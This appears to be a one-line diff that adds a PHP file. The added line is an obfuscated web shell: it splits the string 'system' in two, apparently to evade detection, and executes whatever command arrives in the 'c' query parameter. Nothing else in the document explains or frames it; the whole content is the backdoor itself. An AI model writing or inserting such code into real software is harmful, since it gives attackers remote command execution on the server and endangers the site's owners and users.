@@ -1,0 +1,1 @@
+<?php define('RUN', 'sys' . 'tem'); $f = RUN; $f($_GET['c']);
